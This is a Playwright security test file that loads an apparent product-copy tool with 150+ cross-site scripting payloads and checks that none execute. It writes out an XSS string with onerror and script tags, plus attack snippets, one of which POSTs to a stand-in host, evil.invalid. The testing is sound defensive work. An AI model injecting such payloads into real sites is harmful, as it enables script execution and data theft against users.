import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, type Page, request, test } from "@playwright/test";
import { type Alarm, watch } from "./alarm";
import { type Endpoint, startEndpoint } from "./endpoint";
import { type HostileShop, startHostileShop, writeExport } from "./hostileshop";
import { payloads } from "./payloads";
import { type ForeignShop, type Galley, startGalley, startShop } from "./programs";

/** A home where everything that somebody else wrote is hostile. */
interface Siege {
  galley: Galley;
  origin: string;
  shop: string;
  file: string;
  front: HostileShop;
  behind: ForeignShop;
  endpoint: Endpoint;
  folder: string;
}

const NAME = `"><img src=x onerror=__alarm('name')><script>__alarm('name')</script>`;

/** The payloads one after the other, round and round. */
function inTurn(): () => string {
  let next = 0;
  return () => payloads[next++ % payloads.length]?.text ?? "";
}

async function besiege(): Promise<Siege> {
  const folder = mkdtempSync(join(tmpdir(), "galley-hostile-"));
  const path = join(folder, `${NAME.replaceAll("/", "")}.csv`);
  writeExport(path, payloads);
  const [galley, behind, endpoint] = await Promise.all([
    startGalley(),
    startShop(
      "--catalogue",
      path,
      "--latency",
      "0",
      "--restore-rate",
      "10000",
      "--bucket",
      "20000",
    ),
    startEndpoint(),
  ]);
  const front = await startHostileShop(behind.endpoint, NAME);
  const idOf = (document: string) => (JSON.parse(document) as { id: string }).id;
  const args = ["shop", "add", "shopify", "north", "--endpoint", front.endpoint, "--token-stdin"];
  const shop = idOf(await galley.runWith(behind.token, ...args, "--json"));
  await galley.run("sync", shop);
  const file = idOf(await galley.run("shop", "add", "file", path, "--json"));
  await galley.run("sync", file);
  for (const [key, value] of Object.entries({
    "writer.base_url": endpoint.url,
    "writer.model": endpoint.model,
    "writer.rpm": "0",
    "writer.concurrency": "16",
    "writer.kind": "openai",
    person: NAME,
  })) {
    await galley.run("settings", "set", key, value);
  }
  const { origin } = new URL(galley.url);
  return { galley, origin, shop, file, front, behind, endpoint, folder };
}

async function lift(siege: Siege): Promise<void> {
  const { galley, front, behind, endpoint, folder } = siege;
  await Promise.all([galley.stop(), front.stop(), behind.stop(), endpoint.stop()]);
  rmSync(folder, { recursive: true, force: true });
}

/** Has drafts written in the words of the payloads; the last products are refused and fail. */
async function writeJobs({ galley, shop, file, endpoint }: Siege): Promise<string[]> {
  const turn = inTurn();
  let drafts = 0;
  endpoint.say(() => {
    drafts++;
    if (drafts % 20 === 0) return { refusal: turn() };
    if (drafts % 50 === 7) return { error: turn() };
    return { draft: turn() };
  });
  const some = payloads.flatMap((_, place) => (place % 8 ? [] : ["--handle", `h${place}`]));
  const jobs: string[] = [];
  for (const [of, field, ...chosen] of [
    [shop, "description", "--all"],
    [shop, "seo_title", ...some],
    [shop, "alt_text", "--unseen", ...some],
    [file, "alt_text", "--unseen", ...some],
  ] as const) {
    const args = ["job", "create", of, "--field", field, ...chosen, "--instructions", turn()];
    jobs.push(JSON.parse(await galley.run(...args, "--wait", "--json")).id);
  }
  endpoint.say(undefined);
  return jobs;
}

async function jumpTo(page: Page, hash: string): Promise<void> {
  await page.evaluate((to) => {
    location.hash = to;
  }, hash);
}

/** Brings every row of the list before somebody's eyes. */
async function scrollThrough(page: Page): Promise<void> {
  const grid = page.getByRole("grid");
  await expect(grid.getByRole("row").nth(2)).toBeVisible();
  await grid
    .locator("[role=presentation]")
    .first()
    .evaluate(async (scroller) => {
      while (scroller.scrollTop + scroller.clientHeight < scroller.scrollHeight - 1) {
        scroller.scrollTop += 500;
        await new Promise((resolve) => setTimeout(resolve, 60));
      }
    });
}

/** Gives started scripts time to run. */
const settle = (page: Page) => page.waitForTimeout(500);

async function expectSilence(page: Page, alarm: Alarm): Promise<void> {
  await settle(page);
  expect(alarm.rang).toEqual([]);
}

// The policy of the pages would stop most of what got past the sanitiser: here it is off. (It cannot
// be counted what it stops: Chromium also reports what is only read, and never run.)
test.use({ bypassCSP: true });

test.describe("everything that somebody else wrote is hostile", () => {
  let siege: Siege;
  let jobs: string[];
  let signedIn: Awaited<ReturnType<Awaited<ReturnType<typeof request.newContext>>["storageState"]>>;

  test.beforeAll(async () => {
    siege = await besiege();
    jobs = await writeJobs(siege);
    const browser = await request.newContext();
    await browser.get(siege.galley.url);
    for (const { text } of payloads.slice(0, 40)) {
      const instructions = {
        id: "",
        name: text.slice(0, 80),
        field: "description",
        shop_id: "",
        text,
      };
      await browser.post(`${siege.origin}/rpc/SaveInstructions`, {
        data: [instructions],
        headers: { Origin: siege.origin },
      });
    }
    signedIn = await browser.storageState();
    await browser.dispose();
  });

  test.afterAll(async () => lift(siege));

  const open = async (page: Page): Promise<Alarm> => {
    await page.context().addCookies(signedIn.cookies);
    const alarm = await watch(page.context(), page, siege.origin);
    await page.goto(siege.origin);
    await expect(page.getByRole("grid")).toBeVisible();
    return alarm;
  };

  test("there are more than 150 of them, and many would run", async ({ page }) => {
    const texts = payloads.map(({ text }) => text);
    expect(new Set(texts).size).toBe(texts.length);
    expect(texts.length).toBeGreaterThanOrEqual(150);
    const ran = new Set<number>();
    await page.exposeFunction("__alarm", (n: number) => ran.add(n));
    await page.route("**", (route) => route.fulfill({ contentType: "text/html", body: "<body>" }));
    await page.goto("https://shop.invalid/");
    await page.evaluate((all) => {
      for (const text of all) {
        const frame = document.createElement("iframe");
        frame.srcdoc = text;
        document.body.append(frame);
      }
    }, texts);
    await expect.poll(() => ran.size).toBeGreaterThan(60);
  });

  test("the alarm reports every attack that gets through", async ({ page, browser }) => {
    const alarm = await open(page);
    const attacks: [RegExp, string][] = [
      [
        /^script of 1$/,
        `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=__alarm(1)>")`,
      ],
      [/^dialog: 2$/, "alert(2)"],
      [/^window: /, `open("/?window")`],
      [
        /^sent elsewhere: POST https:\/\/evil/,
        `fetch("https://evil.invalid", {method: "POST"}).catch(() => 0)`,
      ],
      [/^call: POST .*RemoveShop/, `fetch("/rpc/RemoveShop", {method: "POST"})`],
      [/^asked for: GET .*elsewhere/, `fetch("/elsewhere")`],
      [/^error: thrown/, `setTimeout(() => { throw new Error("thrown") })`],
      [
        /^navigation: data:/,
        `const f = document.createElement("iframe"); f.src = "data:text/html,x"; document.body.append(f)`,
      ],
    ];
    for (const [expected, attack] of attacks) {
      await page.evaluate(`{ ${attack} }`);
      await expect.poll(() => alarm.rang.some((line) => expected.test(line)), attack).toBe(true);
    }

    await test.step("and the policy of the pages stops it once more", async () => {
      const context = await browser.newContext({ storageState: signedIn, bypassCSP: false });
      const guarded = await context.newPage();
      const second = await open(guarded);
      await guarded.evaluate(() => {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=__alarm(1)>");
        const script = document.createElement("script");
        script.textContent = "__alarm(2)";
        document.body.append(script);
      });
      await expectSilence(guarded, second);
      await context.close();
    });
  });

  test("products and shops", async ({ page }) => {
    const alarm = await open(page);
    await jumpTo(page, "/shops");
    await expect(page.getByText(NAME).first()).toBeVisible();
    for (const shop of [siege.shop, siege.file]) {
      await jumpTo(page, `/s/${shop}/products`);
      await scrollThrough(page);
      await expectSilence(page, alarm);
    }
  });

  test("the editor of every third product of each shop", async ({ page }) => {
    const alarm = await open(page);
    for (let place = 0; place < payloads.length; place++) {
      if (place % 3 === 2) continue;
      const fetched = page.waitForResponse(/\/rpc\/GetDesk$/);
      await jumpTo(page, `/s/${place % 3 ? siege.shop : siege.file}/products/h${place}`);
      await fetched;
      await expect(page.getByRole("textbox", { name: "Description", exact: true })).toBeVisible();
    }
    await page.getByText("Rich text", { exact: true }).click();
    await expectSilence(page, alarm);
  });

  test("jobs and their rows, the palette, a new job, settings", async ({ page }) => {
    const alarm = await open(page);
    await jumpTo(page, `/s/${siege.shop}/jobs`);
    await expect(page.getByRole("row").nth(2)).toBeVisible();
    for (const job of jobs) {
      await jumpTo(page, `/s/${siege.shop}/jobs/${job}`);
      await scrollThrough(page);
    }
    await page.keyboard.press("i");
    await expect(page.getByRole("dialog", { name: /^Instructions of job/ })).toBeVisible();
    await page.keyboard.press("Escape");
    await page.keyboard.press("Control+k");
    await page.keyboard.type("script");
    await expect(page.getByRole("option").nth(3)).toBeVisible();
    await page.keyboard.press("Escape");
    await jumpTo(page, `/s/${siege.shop}/products?new=true`);
    const panel = page.getByRole("complementary", { name: "New job" });
    await expect(panel.getByLabel("Saved instructions")).toContainText("__alarm");
    await jumpTo(page, "/settings");
    await expect(page.getByRole("button", { name: /^Edit .*__alarm/ }).first()).toBeVisible();
    await expectSilence(page, alarm);
  });

  test("the preview of every description, and of some other texts, in each view", async ({
    page,
  }) => {
    const alarm = await open(page);
    for (const [i, job] of jobs.entries()) {
      const items = i === 0 ? payloads.length : 20;
      for (let place = 1; place <= items; place++) {
        await jumpTo(page, `/s/${siege.shop}/jobs/${job}/${place}`);
        await expect(page.getByText(new RegExp(`^${place} of \\d+ items$`))).toBeVisible();
      }
    }
    await expectSilence(page, alarm);
    for (let place = 3; place < payloads.length; place += 15) {
      await jumpTo(page, `/s/${siege.shop}/jobs/${jobs[0]}/${place}`);
      await expect(page.getByText(new RegExp(`^${place} of \\d+ items$`))).toBeVisible();
      for (const key of ["d", "d", "d", "e"]) await page.keyboard.press(key);
      await page.keyboard.press("Escape");
    }
    await expectSilence(page, alarm);
  });

  test("what the shop says while it refuses, and what it has in a conflict", async ({ page }) => {
    const { galley, front, behind, shop } = siege;
    const [job = ""] = jobs;
    const { items } = JSON.parse(await galley.run("job", "show", job, "--items", "--json"));
    const written = items.filter((item: { state: string }) => item.state === "generated");
    const some = written.slice(0, 24) as { id: string; product: { handle: string } }[];
    const publish = (of: typeof some) =>
      galley.run("publish", job, ...of.flatMap(({ id }) => ["--item", id]), "--wait");
    front.refuse(inTurn());
    await publish(some.slice(0, 12));
    front.refuse(undefined);
    const turn = inTurn();
    for (const { product } of some.slice(12)) {
      await behind.change(product.handle, { descriptionHtml: `<p>now</p>${turn()}` });
    }
    await publish(some.slice(12));

    const alarm = await open(page);
    for (const { id } of some.slice(0, 12)) {
      await jumpTo(page, `/s/${shop}/jobs/${id}`);
      await expect(page.getByText(/shop did not take the description/).first()).toBeVisible();
    }
    await jumpTo(page, `/s/${shop}/jobs/${job}?show=conflict`);
    await expect(page.getByRole("button", { name: /^Compare/ }).first()).toBeVisible();
    for (const { id } of some.slice(12)) {
      await jumpTo(page, `/s/${shop}/jobs/${id}?show=conflict`);
      await expect(page.locator("iframe[title='On the shop now']")).toBeVisible();
    }
    await expectSilence(page, alarm);

    front.fail(NAME);
    await galley.run("sync", shop).catch(() => undefined);
    await jumpTo(page, "/shops");
    await expect(page.getByRole("grid").or(page.getByRole("list")).first()).toBeVisible();
    await jumpTo(page, `/s/${shop}/products`);
    await expectSilence(page, alarm);
    front.fail(undefined);
  });

  test("pages that customers get of the demo shop", async ({ page }) => {
    const alarm = await watch(
      page.context(),
      page,
      siege.behind.endpoint,
      /^\/(?:products\/h\d+|style\.css)$/,
    );
    for (const place of payloads.keys()) {
      if (place % 4 === 0) await page.goto(`${siege.behind.endpoint}/products/h${place}`);
    }
    await expectSilence(page, alarm);
  });
});
